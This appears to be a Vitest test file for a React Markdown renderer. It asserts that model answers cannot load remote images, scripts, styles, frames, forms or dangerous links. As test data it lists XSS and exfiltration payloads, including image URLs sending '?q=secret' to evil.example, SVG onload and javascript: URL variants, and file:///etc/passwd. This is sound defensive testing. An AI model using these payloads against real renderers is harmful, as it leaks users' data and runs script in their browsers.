import { MantineProvider } from "@mantine/core";
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { Markdown } from "./message/markdown.tsx";

afterEach(cleanup);

const shown = (text: string): HTMLElement =>
  render(
    <MantineProvider env="test">
      <Markdown text={text} sources={[]} />
    </MantineProvider>,
  ).container;

test.each([
  ["an image", "![p](https://evil.example/p.png?q=secret)"],
  ["an image by reference", "![p][r]\n\n[r]: https://evil.example/p.png"],
  ["an image in a link", "[![p](https://evil.example/p.png)](https://evil.example)"],
  ["a picture of text", "![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["a drawing", '<svg onload="alert(1)"><image href="https://evil.example/x"/></svg>'],
  ["a script", "<script src=https://evil.example/x.js></script>"],
  ["a style", "<style>@import 'https://evil.example/x.css'</style>"],
  ["a style on a word", '<b style="background:url(https://evil.example/x)">b</b>'],
  ["a frame", '<iframe src="https://evil.example"></iframe><object data="https://evil.example">'],
  ["a form", '<form action="https://evil.example"><input name=q><button>Go</button></form>'],
  ["a page's head", '<meta http-equiv=refresh content="0;https://evil.example"><base href=//evil>'],
  ["a diagram", '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```'],
  ["a formula", "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/x}$$"],
])("%s is never more than text", (_, text) => {
  const page = shown(text);
  const loading = "img, svg, script, style, iframe, object, embed, form, button, input, meta, base";
  const answer = page.querySelector(".answer") ?? page;
  expect(answer.querySelectorAll(loading)).toHaveLength(0);
  expect(
    answer.querySelectorAll("[src], [srcset], [style*=url], [onload], [onerror]"),
  ).toHaveLength(0);
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](vbscript:msgbox)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](file:///etc/passwd)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "[x](//evil.example)",
  "[x](\\\\evil.example)",
])("%j leads nowhere", (text) => {
  expect(shown(text).querySelectorAll("a")).toHaveLength(0);
});

test.each([
  ["[x](https://evil.example/p?q=1)", "evil.example"],
  ["[apple.com](https://evil.example)", "evil.example"],
  ["[x](https://apple.com@evil.example/)", "evil.example"],
  ["[x][r]\n\n[r]: https://evil.example/p", "evil.example"],
  ["<https://evil.example/p>", "evil.example"],
  ["https://evil.example/p", "evil.example"],
])("%s is a link that says where it leads, or is text", (text, host) => {
  const page = shown(text);
  for (const link of page.querySelectorAll("a")) {
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link.parentElement?.textContent).toContain(host);
  }
  expect(page.textContent).toMatch(/x|apple|evil/);
});
